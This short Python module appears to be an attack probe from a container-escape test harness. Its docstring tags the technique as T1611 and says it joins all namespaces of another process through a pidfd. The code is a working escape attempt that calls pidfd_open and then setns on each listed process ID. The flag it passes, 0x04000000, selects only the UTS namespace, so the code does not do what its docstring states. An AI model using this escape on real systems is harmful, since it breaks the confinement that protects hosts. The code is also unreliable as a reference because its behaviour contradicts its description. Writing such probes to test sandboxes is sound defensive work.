"""Join all namespaces of another process by a pidfd.

gain: the host's network, files or processes
attack: T1611
stopped by: pid namespace, seccomp, capabilities
unconfined: host
also refused by: ESRCH
"""

from attacker import call, each, first


def attempt(world):
    def join(pid):
        call("setns", call("pidfd_open", pid, 0), 0x04000000)
        return f"joined by a pidfd of process {pid}"

    return first(*each(world["pids"], join))
